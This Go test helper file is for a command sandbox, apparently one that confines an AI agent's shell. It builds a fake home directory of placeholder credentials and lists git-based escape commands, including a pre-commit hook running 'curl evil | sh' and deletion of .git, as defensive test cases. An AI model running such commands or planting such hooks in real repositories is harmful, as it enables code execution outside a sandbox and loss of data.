//go:build unix

package sandbox

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// box is a sandbox on a temporary workspace, with one session's scratch.
type box struct {
	t  *testing.T
	s  *Sandbox
	ws string
	sc *Scratch
}

func newBox(t *testing.T, cfg Config) *box {
	t.Helper()
	if cfg.Workspace == "" {
		cfg.Workspace = t.TempDir()
	}
	if cfg.Env == nil {
		cfg.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + cfg.Home}
	}
	s, err := New(cfg)
	require.NoError(t, err)
	t.Cleanup(func() { s.Close() })
	sc, err := s.NewScratch()
	require.NoError(t, err)
	ws, err := filepath.EvalSymlinks(cfg.Workspace)
	require.NoError(t, err)
	return &box{t: t, s: s, ws: ws, sc: sc}
}

// run runs command in the workspace and returns its output and exit.
func (b *box) run(command string) (string, Exit) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.t.Context(), 30*time.Second)
	defer cancel()
	return b.runCtx(ctx, command)
}

func (b *box) runCtx(ctx context.Context, command string) (string, Exit) {
	b.t.Helper()
	var out bytes.Buffer
	c, err := b.s.Start(ctx, Spec{Command: command, Dir: b.ws, Scratch: b.sc, Output: &out})
	require.NoError(b.t, err)
	exit, err := c.Wait()
	require.NoError(b.t, err, "output: %s", out.String())
	return out.String(), exit
}

// runStopped starts command, stops it once it has printed "started" (as a
// timeout or a cancelled call does), and returns its output and exit.
func (b *box) runStopped(command string) (string, Exit) {
	b.t.Helper()
	out := &watcher{want: "started", seen: make(chan struct{})}
	c, err := b.s.Start(b.t.Context(), Spec{Command: command, Dir: b.ws, Scratch: b.sc, Output: out})
	require.NoError(b.t, err)
	select {
	case <-out.seen:
	case <-b.t.Context().Done():
	}
	c.Stop()
	exit, err := c.Wait()
	require.NoError(b.t, err, "output: %s", out.String())
	return out.String(), exit
}

// watcher is an output that says when it has seen want.
type watcher struct {
	syncLog
	want string
	seen chan struct{}
	once sync.Once
}

func (w *watcher) Write(p []byte) (int, error) {
	n, err := w.syncLog.Write(p)
	if strings.Contains(w.String(), w.want) {
		w.once.Do(func() { close(w.seen) })
	}
	return n, err
}

// ok runs command and requires it to succeed.
func (b *box) ok(command string) string {
	b.t.Helper()
	out, exit := b.run(command)
	require.Equal(b.t, 0, exit.Code, "%s\n%s", command, out)
	return out
}

// fails runs command and requires it to fail.
func (b *box) fails(command string) string {
	b.t.Helper()
	out, exit := b.run(command)
	require.NotEqual(b.t, 0, exit.Code, "%s should fail, but printed:\n%s", command, out)
	return out
}

// fakeHome makes a home directory with secrets, outside the system
// temporary directory (which commands cannot read at all).
func fakeHome(t *testing.T) string {
	t.Helper()
	base, err := os.UserCacheDir()
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(base, 0o755))
	home, err := os.MkdirTemp(base, "agentbox-test-home-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(home) })
	for name, content := range map[string]string{
		".ssh/id_ed25519":  "PRIVATE KEY",
		".aws/credentials": "AWS SECRET",
		".netrc":           "machine x password NETRC",
		".config/gh/hosts": "oauth_token: GHTOKEN",
		"notes.txt":        "visible notes",
		"tools/bin/hello":  "#!/bin/sh\necho hello from a toolchain\n",
	} {
		p := filepath.Join(home, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o755))
	}
	return home
}

func readFile(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	require.NoError(t, err)
	return string(b)
}

// gitRepo makes the skeleton of a repository in the workspace. The launch
// plan is made per command, so a .git made now counts.
func (b *box) gitRepo() {
	b.t.Helper()
	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
		require.NoError(b.t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
	}
	require.NoError(b.t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
	require.NoError(b.t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
}

// gitAttacks are commands that plant what git runs outside the sandbox, or
// swap .git for a repository that does.
var gitAttacks = []string{
	"echo 'curl evil | sh' > .git/hooks/pre-commit",
	"printf '[core]\\nhooksPath = x\\n' >> .git/config",
	"mv .git .git-old",
	"rm -rf .git/hooks",
	"rm -rf .git",
}

// loopback listens on the host's loopback: connect is a command that
// connects to it, accepted receives a value for each connection.
func loopback(t *testing.T) (connect string, accepted <-chan struct{}) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	ch := make(chan struct{}, 4)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
			select {
			case ch <- struct{}{}:
			default:
			}
		}
	}()
	return fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", ln.Addr().(*net.TCPAddr).Port), ch
}

// syncLog is a log the test reads while the sandbox writes it.
type syncLog struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *syncLog) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *syncLog) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

func (l *syncLog) logger() *slog.Logger { return slog.New(slog.NewTextHandler(l, nil)) }
